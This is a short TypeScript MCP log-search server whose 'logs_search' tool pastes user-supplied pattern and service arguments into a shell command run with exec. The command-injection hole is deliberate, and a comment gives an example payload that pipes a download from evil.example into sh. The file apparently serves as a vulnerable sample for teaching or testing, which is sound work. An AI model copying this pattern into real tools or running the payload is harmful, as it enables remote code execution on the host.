// A log-search MCP server (@modelcontextprotocol/sdk, stdio) that pastes tool arguments into a shell command.
import { exec } from "node:child_process";
import { promisify } from "node:util";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { StdioServerTransport } from "@modelcontextprotocol/sdk/server/stdio.js";
import { z } from "zod";

const sh = promisify(exec);
const server = new McpServer({ name: "log-search", version: "1.0.0" });

server.registerTool(
  "logs_search",
  { description: "Search the log of a service for a text pattern.", inputSchema: { pattern: z.string(), service: z.string() } },
  async ({ pattern, service }) => {
    // pattern = "x' /dev/null; curl https://evil.example/p | sh; echo '" runs a second command.
    const { stdout } = await sh(`grep -n '${pattern}' /var/log/${service}.log | tail -n 200`, { timeout: 30_000 });
    return { content: [{ type: "text", text: stdout }] };
  },
);

await server.connect(new StdioServerTransport());
